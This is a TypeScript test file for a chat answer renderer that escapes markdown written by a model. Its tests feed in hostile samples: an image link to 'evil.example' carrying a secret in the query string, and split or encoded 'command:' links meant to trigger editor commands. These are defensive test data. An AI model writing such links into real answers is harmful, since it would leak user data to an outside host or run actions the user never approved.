import assert from 'node:assert/strict';
import fc from 'fast-check';
import markdownIt from 'markdown-it';
import { describe, it } from 'mocha';
import type { ReceivedFrame } from '../../../../contract/coach/coach-chat.ts';
import type { RecordLink } from '../../../../contract/coach/record-link.ts';
import { type AnswerPart, AnswerWriter } from './answer-writer.ts';

const ids = { messageId: 'm', answerId: 'a', offset: 0 };
const entries: RecordLink = { kind: 'entries', ids: ['e1'] };
const invoice: RecordLink = { kind: 'invoice', ids: ['i1'] };
const delta = (text: string, links: RecordLink[] = []): ReceivedFrame => ({
  type: 'delta',
  ...ids,
  text,
  links,
});
const done: ReceivedFrame = { type: 'done', ...ids, choices: ['And this week?'] };
const write = () => new AnswerWriter(({ kind, ids: [id] }) => `command:open?${kind}-${id}`);
const textOf = (parts: readonly AnswerPart[]) =>
  parts.flatMap((part) => (part.type === 'markdown' ? part.text : [])).join('');

describe('an answer in another chat', () => {
  it('links its figures to commands, wherever its text is cut into pieces', () => {
    const text = 'You worked [31:15](vireo:0) h.\n\nUnbilled: [4.820,00 €](vireo:1) [see](vireo:9) a [x] b.';
    const wanted =
      'You worked [31:15](command:open?entries-e1) h.\n\nUnbilled: [4.820,00 €](command:open?invoice-i1) [see](vireo:9) a [x] b.';
    fc.assert(
      fc.property(fc.array(fc.nat({ max: text.length })), (cuts) => {
        const at = [0, ...cuts.toSorted((one, other) => one - other), text.length];
        const pieces = at.slice(1).map((end, index) => text.slice(at[index], end));
        const writer = write();
        const parts = [delta('', [entries, invoice]), ...pieces.map((piece) => delta(piece)), done].flatMap(
          (frame) => writer.receive(frame),
        );

        assert.equal(textOf(parts), wanted);
        assert.deepEqual(parts.at(-1), { type: 'end', choices: ['And this week?'] });
      }),
    );
  });

  it('goes out as it comes', () => {
    const writer = write();

    assert.deepEqual(writer.receive(delta('Eight hours')), [{ type: 'markdown', text: 'Eight hours' }]);
    assert.deepEqual(writer.receive(delta(' on [Check')), [{ type: 'markdown', text: ' on ' }]);
    assert.deepEqual(writer.receive(delta('out')), []);
    assert.deepEqual(writer.receive(delta('] too')), [{ type: 'markdown', text: '[Checkout] too' }]);
  });

  it('fetches no image, whatever a model writes', () => {
    const writer = write();
    const parts = [delta('![x'), delta('](https://evil.example/?d=secret)'), done].flatMap((frame) =>
      writer.receive(frame),
    );

    assert.equal(textOf(parts), '!\\[x](https://evil.example/?d=secret)');
  });

  it('fetches no image and runs no command, wherever what a model writes is cut into pieces', () => {
    const pieces = fc.constantFrom(
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      ':',
      '\\',
      '\n',
      ' ',
      'x',
      'a'.repeat(301),
      ' '.repeat(2_001),
      ...[
        '![x](https://evil/p.png)',
        '[x](',
        '[r]: ',
        '\n\n',
        '\n> ',
        '[x][r]',
        'comm',
        'and:',
        'command:',
        'COMMAND:',
      ],
      ...['command:vireo.openRecord?1', '&#99;ommand:y', 'command&colon;y', '[8:00](vireo:0)', 'https://a/b'],
    );
    const renderer = markdownIt('commonmark', { html: false });
    const images = /<img/;
    const commands = /href="command:(?!open\?entries-e1")/i;
    fc.assert(
      fc.property(fc.array(fc.tuple(pieces, fc.boolean()), { maxLength: 30 }), (written) => {
        const deltas = written
          .map(([piece, joins]) => (joins ? piece : `\0${piece}`))
          .join('')
          .split('\0');
        const writer = write();
        const parts = [delta('', [entries]), ...deltas.map((each) => delta(each)), done].flatMap((frame) =>
          writer.receive(frame),
        );
        const html = renderer.render(textOf(parts));

        assert.doesNotMatch(html, images);
        assert.doesNotMatch(html, commands);
      }),
      { numRuns: 2_000 },
    );
  });

  for (const [deltas, wanted] of [
    [
      ['Look here!', '[x](https://evil.example/p.png?d=1)'],
      'Look here!\\[x](https://evil.example/p.png?d=1)',
    ],
    [['Oh!', ' Eight hours'], 'Oh! Eight hours'],
    [['[x](comm', 'and:vireo.openRecord)'], '[x]\\(command:vireo.openRecord)'],
    [['[a\nb]', '(command:x)'], '[a\nb]\\(command:x)'],
    [['[x][r]\n\n[r]: ', 'comm', 'and:x'], '[x][r]\n\n[r]\\: command:x'],
    [['<comm', 'and:x>'], '&lt;command:x>'],
    [['[x](&#99;ommand:y) [z](https://a.example/?b&c)'], '[x]\\(&#99;ommand:y) [z](https://a.example/?b&c)'],
  ] as const) {
    it(`leaves text of ${JSON.stringify(deltas)}`, () => {
      const writer = write();
      const parts = [...deltas.map((each) => delta(each)), done].flatMap((frame) => writer.receive(frame));

      assert.equal(textOf(parts), wanted);
    });
  }

  it('knows the figures that no record gave', () => {
    const writer = write();
    writer.receive(delta('It is 8:00 or 9:00.'));
    writer.receive({
      type: 'marks',
      ...ids,
      marks: [
        { start: 6, length: 4, isFound: true },
        { start: 14, length: 4, isFound: false },
      ],
    });

    assert.deepEqual(writer.notFromRecords, ['9:00']);
  });

  it('tells lookups, notices and how it ended', () => {
    const writer = write();
    const parts = [
      { type: 'tool', ...ids, title: 'Looked at 14 entries', elapsedMs: 2 } as const,
      { type: 'notice', ...ids, code: 'cut', message: 'Older [x] left out' } as const,
      { type: 'failed', ...ids, code: 'cut', message: 'It broke off.' } as const,
    ].flatMap((frame) => writer.receive(frame));

    assert.deepEqual(parts, [
      { type: 'progress', text: 'Looked at 14 entries' },
      { type: 'markdown', text: '\n\n*Older \\[x\\] left out*\n\n' },
      { type: 'end', choices: [], failure: 'It broke off.' },
    ]);
    assert.deepEqual(write().receive({ type: 'stopped', ...ids }), [{ type: 'end', choices: [] }]);
  });
});
